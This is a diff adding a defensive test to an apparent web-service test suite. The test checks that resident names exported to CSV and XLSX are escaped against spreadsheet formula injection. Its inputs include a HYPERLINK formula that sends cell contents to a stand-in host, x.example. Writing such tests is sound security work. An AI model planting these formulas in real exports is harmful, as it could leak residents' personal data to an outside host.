@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 from datetime import timedelta
@@ -194,6 +195,21 @@ async def test_the_list_to_take_away(water: UUID, cast: Cast, open_desk: OpenDes
     assert any("陈桂芳" in line and "没有微信等联系方式" in line for line in lines)
     file = (await desk.get(f"/staff/notices/{water}/people.xlsx")).content
     assert load_workbook(io.BytesIO(file)).active.max_row == 4
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/"&A2,"详情")', "@SUM(1)", " +1-1"])
+async def test_a_name_in_the_list_to_take_away_is_no_formula(
+    water: UUID, cast: Cast, open_desk: OpenDesk, sessions: Sessions, name: str
+) -> None:
+    async with sessions.begin() as session:
+        silent = await session.get_one(Resident, (await silent_one(sessions, water)).resident_id)
+        silent.name = name
+    desk = await open_desk(actor_of(cast, "here.committee"))
+    content = (await desk.get(f"/staff/notices/{water}/people.csv")).content.decode("utf-8-sig")
+    assert f"'{name}" in {row[2] for row in csv.reader(io.StringIO(content))}
+    file = (await desk.get(f"/staff/notices/{water}/people.xlsx")).content
+    cells = [row[2] for row in load_workbook(io.BytesIO(file)).active.iter_rows()]
+    assert [cell.data_type for cell in cells if cell.value == f"'{name}"] == ["s"]
 
 
 async def test_a_sheet_of_too_many_says_what_to_take_instead(
